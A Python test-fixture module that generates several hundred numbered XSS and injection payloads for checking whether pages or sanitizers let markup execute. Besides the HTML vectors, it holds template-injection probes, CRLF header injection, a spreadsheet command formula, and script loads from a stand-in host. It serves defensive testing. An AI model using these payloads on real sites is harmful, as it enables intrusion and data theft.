"""Words that would be a program if a page took them for one: more than three hundred, each with its number.

Each would call `struck(n)`, which tests define in every window, or leave an element of the class `struck` behind.
"""

from itertools import product

# In the order of what they lean on: elements, addresses, vector graphics, styles, frames, old habits of browsers.
ELEMENTS = (
    "<script>struck({n})</script>",
    "<ScRiPt class=struck>struck({n})</ScRiPt>",
    "<script src=data:text/javascript,struck({n})></script>",
    "<script src=//struck.example/{n}.js></script>",
    "<img class=struck src=x onerror=struck({n})>",
    "<img/src='x'/onerror=struck({n})/class=struck>",
    '<a class=struck href="javascript:struck({n})">xem</a>',
    '<a class=struck href="jAvA\tscRipt&colon;struck({n})">xem</a>',
    "<svg class=struck onload=struck({n})>",
    "<svg class=struck><script>struck({n})</script></svg>",
    "<svg class=struck><animate onbegin=struck({n}) attributeName=x dur=1s>",
    "<svg class=struck><foreignObject><body onload=struck({n})></foreignObject></svg>",
    "<svg class=struck><a xlink:href='javascript:struck({n})'><text>xem</text></a></svg>",
    "<math class=struck><mtext><img src=x onerror=struck({n})></mtext></math>",
    "<iframe class=struck srcdoc='<script>parent.struck({n})</script>'></iframe>",
    "<iframe class=struck src=javascript:parent.struck({n})></iframe>",
    "<object class=struck data=javascript:struck({n})></object>",
    "<embed class=struck src=javascript:struck({n})>",
    "<details class=struck open ontoggle=struck({n})>",
    "<video class=struck><source onerror=struck({n})></video>",
    "<audio class=struck src=x onerror=struck({n})>",
    "<input class=struck autofocus onfocus=struck({n})>",
    "<marquee class=struck onstart=struck({n})>",
    "<form class=struck action=javascript:struck({n})><button autofocus>xem</button></form>",
    "<button class=struck formaction=javascript:struck({n})>xem</button>",
    "<style class=struck>@import 'javascript:struck({n})'; body {{ background: url(//struck.example/{n}) }}</style>",
    "<div class=struck style='animation: x' onanimationstart=struck({n})>",
    "<link class=struck rel=stylesheet href=//struck.example/{n}.css>",
    "<meta class=struck http-equiv=refresh content='0;url=//struck.example/{n}'>",
    "<base class=struck href=//struck.example/{n}/>",
    "<noscript><p title='</noscript><img class=struck src=x onerror=struck({n})>'>",
    "<xmp><p title='</xmp><img class=struck src=x onerror=struck({n})>'>",
    "<!--><img class=struck src=x onerror=struck({n})>-->",
    "<![CDATA[<img class=struck src=x onerror=struck({n})>]]>",
    "<?xml-stylesheet href='javascript:struck({n})'?><img class=struck src=x>",
    "<body class=struck onload=struck({n})>",
)
# What may stand before them: the end of whatever a page may have put them into.
ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></style></script>",
    "--></option></select>",
    "]]></text></svg>",
    "Nguyễn Văn A\u202e",
)
# Inside an attribute, an address, a script or a template.
INSIDE = (
    '" class="struck" autofocus onfocus="struck({n})" x="',
    "' class='struck' autofocus onfocus='struck({n})' x='",
    "x class=struck onmouseover=struck({n}) ",
    "` class=struck onfocus=struck({n}) autofocus `",
    "javascript:struck({n})",
    " \tjava\nscript:struck({n})",
    "data:text/html,<script class=struck>parent.struck({n})</script>",
    "vbscript:struck({n})",
    "//struck.example/{n}",
    "https://struck.example\\@127.0.0.1/{n}",
    "';struck({n});//",
    '";struck({n});//',
    "\\';struck({n});//",
    "</script><script>struck({n})</script>",
    "${{struck({n})}}",
    "`${{struck({n})}}`",
    "{{{{ 7 * 7 }}}} struck({n})",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} struck({n})",
    "{{% for x in (1,) %}}struck({n}){{% endfor %}}",
    "{{{{constructor.constructor('struck({n})')()}}}}",
    "<%= struck({n}) %>",
    "#{{struck({n})}} [[${{struck({n})}}]] *{{struck({n})}}",
    "%(struck)s %s %n {{0}} {{struck}} struck({n})",
    "＜script＞struck({n})＜/script＞",
    "+ADw-script+AD4-struck({n})+ADw-/script+AD4-",
    "%3Cimg class=struck src=x onerror=struck({n})%3E",
    "&lt;img class=struck src=x onerror=struck({n})&gt;",
    "&#60;img class=struck src=x onerror=struck({n})&#62;",
    "\\u003cimg class=struck src=x onerror=struck({n})\\u003e",
    "\u202e<img class=struck src=x onerror=struck({n})>\u202c",
    "\u2066<\u200bscript>struck({n})</\u200bscript>\u2069",
    "\ufeff<img class=struck src=x onerror=struck({n})>",
    "<scr\x00ipt>struck({n})</scr\x00ipt>",
    "\x00<img class=struck src=x onerror=struck({n})>",
    "<img class=struck src=x\x0bonerror=struck({n})>",
    "a\r\nSet-Cookie: struck={n}\r\n\r\n<img class=struck src=x onerror=struck({n})>",
    "=cmd|'/c calc'!A{n} <img class=struck src=x onerror=struck({n})>",
    "<b>" * 30 + "<img class=struck src=x onerror=struck({n})>",
    "dài " * 20 + "<img class=struck src=x onerror=struck({n})>",
)


def hostile_words() -> list[str]:
    """All of them."""
    whole = [end + element for element, end in product(ELEMENTS, ENDS)]
    return [words.format(n=n) for n, words in enumerate((*INSIDE, *whole))]


def some(most: int) -> list[str]:
    """So many of them, of every kind."""
    every = hostile_words()
    return every if most >= len(every) else [every[k * len(every) // most] for k in range(most)]
